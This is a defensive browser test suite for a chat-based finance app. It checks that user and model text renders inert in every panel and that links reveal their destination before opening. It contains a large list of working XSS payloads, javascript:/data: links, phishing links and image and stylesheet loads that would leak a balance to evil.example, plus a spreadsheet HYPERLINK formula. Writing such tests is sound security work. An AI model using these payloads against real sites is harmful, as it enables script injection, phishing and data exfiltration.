"""Text from outside (replies, merchants, proposals, titles) is shown as text: no script, no image, no request."""

from __future__ import annotations

import pytest
from hostile_page import HARMLESS, LOOK, say_everywhere
from playwright.async_api import expect

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
SCRIPTS = [
    "<script>window.pwned = 1</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned=1'><use href='https://evil.example/s.svg#x'/></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "`<img src=x onerror=window.pwned=1>` ```<script>window.pwned=1</script>```",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<x-y onclick=window.pwned=1>press</x-y>",
    "</textarea><img src=x onerror=window.pwned=1>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} javascript:window.pwned=1",
    "<penny-chat src='https://evil.example'></penny-chat>",
]
LINKS = [
    "[click me](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
    "[click](<javascript:window.pwned=1>)",
    "[click](&#106;avascript:window.pwned=1)",
    "[your bank](https://evil.example/login)",
    "[https://harbour.example](https://evil.example)",
    "[a](//evil.example/x)",
    "<https://evil.example/auto>",
    "https://evil.example/bare?balance=1200",
    "www.evil.example/bare",
    "mail@evil.example",
    "[x]: https://evil.example/ref\n\n![x]\n\n[x][x]",
]
LOADS = [
    "<img src='https://evil.example/leak.png?balance=1200'>",
    "![spending](https://evil.example/leak.png?balance=1200)",
    "![a](https://evil.example/a.png 'title')",
    "[![a](https://evil.example/a.png)](https://evil.example/b)",
    "![a](//evil.example/a.png)",
    "![a](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "<picture><source srcset='https://evil.example/a.png'><img></picture>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<embed src='https://evil.example'><applet code='https://evil.example'>",
    "<style>@import url(https://evil.example/s.css);body{background:url(https://evil.example/b)}</style>",
    "<link rel=prefetch href='https://evil.example/p'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<div style='background:url(https://evil.example/bg)'>x</div>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<video poster='https://evil.example/p.png'></video>",
    "<form action='https://evil.example'><input name=q><button>Go</button></form>",
    "<base href='https://evil.example/'>",
    "<svg><image href='https://evil.example/i.png'/><feImage href='https://evil.example/f'/></svg>",
    "<table background='https://evil.example/t.png'><tr><td>x</td></tr></table>",
    "url(https://evil.example/u) expression(window.pwned=1) -moz-binding:url(https://evil.example/xbl)",
]
ODD = [
    "\u202egnp.kael\u202c \u200bzero\u200bwidth \u0000 nul",
    "__proto__ constructor toString valueOf",
    '=HYPERLINK("https://evil.example","click")',
    "\ue000\ue100 $1\ue001 torn marks \ue000",
    "].constructor[\n\n---\n\n***\n\n>>>>",
]
PAYLOADS = SCRIPTS + LINKS + LOADS + ODD
TOGETHER = 9


def test_there_are_payloads_enough():
    """At least 60, none twice."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60


async def test_hostile_text_is_only_text(penny, visit):
    """In messages, replies, tools' words, charts, proposals and titles, live and after a reload, payloads do nothing.

    That no request left for anywhere else and that no policy was violated is checked when the visit ends.
    """
    v = await visit()
    groups = [PAYLOADS[at : at + TOGETHER] for at in range(0, len(PAYLOADS), TOGETHER)]
    for number, group in enumerate(groups, 1):
        say_everywhere(penny, group)
        await v.say("\n".join(group).replace("\x00", ""))
        await expect(v.page.locator(".reply[aria-busy=false]")).to_have_count(number)
        await expect(v.page.locator(".chart-line .uplot")).to_have_count(number)
        assert await v.page.evaluate(LOOK) == HARMLESS, group
    await v.page.reload()
    await expect(v.page.locator(".reply[aria-busy=false]")).to_have_count(len(groups))
    await v.page.get_by_role("button", name="Your chats").click()
    await expect(v.page.locator(".chats .open")).to_contain_text(PAYLOADS[0])
    await v.page.get_by_role("button", name="Overview").click()
    await v.page.get_by_role("tab", name="Waiting").click()
    await expect(v.page.locator("penny-waiting .card")).to_have_count(len(PAYLOADS))
    assert await v.page.evaluate(LOOK) == HARMLESS
    assert penny.confirms == []


async def test_hostile_memory_and_history_are_only_text(penny, visit):
    """The panels show names, facts, changes and notes of a file as text."""
    penny.facts = [{"id": str(n), "text": payload} for n, payload in enumerate(PAYLOADS)]
    for payload in PAYLOADS:
        penny.propose(None, None, text=payload, status="applied")
    money = {"minor": 1, "currency": "USD"}
    penny.budgets["items"] = [
        {"category": p, "group": p, "budget": money, "spent": money, "left": money} for p in PAYLOADS
    ]
    penny.accounts = [{"id": str(n), "name": payload} for n, payload in enumerate(PAYLOADS)]
    v = await visit()
    await v.page.get_by_role("button", name="Overview").click()
    for tab, rows in (
        ("Budgets", ".budgets li"),
        ("Changes", ".changes li"),
        ("Memory", ".facts li"),
        ("Import", "option"),
    ):
        await v.page.get_by_role("tab", name=tab).click()
        await expect(v.page.locator(rows)).to_have_count(len(PAYLOADS))
        assert await v.page.evaluate(LOOK) == HARMLESS, tab


async def test_a_link_shows_where_it_leads_and_opens_nothing_by_itself(penny, visit):
    """A link is its words and its host; pressing it shows the whole address, and only the button there opens it."""
    penny.script(
        ("run.finished", {"text": "See [your bank](https://evil.example/x?y=1) or ![cat](http://a.example/c.png)"})
    )
    v = await visit()
    await v.say("?")
    await expect(v.page.locator(".reply .text")).to_have_text("See your bank (evil.example) or cat (a.example)")
    await v.page.get_by_role("button", name="your bank").click()
    pop = v.page.get_by_role("dialog", name="This link leads to another site:")
    await expect(pop.locator(".address")).to_have_text("https://evil.example/x?y=1")
    await expect(pop.get_by_role("button", name="Open evil.example")).to_be_focused()
    assert len(v.context.pages) == 1
    await v.page.keyboard.press("Escape")
    await expect(pop).to_be_hidden()
    await expect(v.page.get_by_role("button", name="your bank")).to_be_focused()


async def test_a_target_that_is_no_web_address_is_text(penny, visit):
    """A link to javascript: or data: cannot be pressed."""
    penny.script(("run.finished", {"text": "[press](javascript:alert(1)) [me](data:text/html,x)"}))
    v = await visit()
    await v.say("?")
    await expect(v.page.locator(".reply .text")).to_have_text("press (javascript:alert(1)) me (data:text/html,x)")
    await expect(v.page.locator(".reply .text button")).to_have_count(0)
